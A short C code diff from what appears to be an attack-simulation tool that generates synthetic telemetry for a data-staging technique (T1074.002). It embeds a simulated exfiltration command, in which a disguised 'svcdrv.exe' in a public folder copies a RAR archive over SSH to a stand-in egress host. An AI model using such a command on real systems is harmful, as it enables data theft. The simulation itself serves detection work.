@@ -99,10 +99,12 @@ static void carry_back(struct sp_scene *scene, const struct sp_process *shell)
     struct sp_process send = sp_scene_run(scene, shell, "C:\\Users\\Public\\svcdrv.exe",
                                           "C:\\Users\\Public\\svcdrv.exe -batch -pw x " MEDIA "e1.part1.rar relay@" JUMP_EGRESS ":/media/");
     sp_act_connect(world, scene->now, &send, &(struct sp_peer){ JUMP_EGRESS, NULL, 22, "ssh" });
+    const struct sp_mark *here = world->mark;
     sp_scene_hop(scene, "archive arrives at the provider", "T1074.002", "birch", "northmsp", "rmm");
     struct sp_process sshd = sp_act_resident(world, jump, &jump->system, S32 "OpenSSH\\sshd.exe", "\"" S32 "OpenSSH\\sshd.exe\" -R");
     sp_act_file(world, scene->now + 50 * SP_TICKS_SECOND, &sshd, MEDIA "e1.part1.rar");
     scene->now += 70 * SP_TICKS_SECOND;
+    world->mark = here;
     sp_act_end(world, scene->now, &send);
 }
 
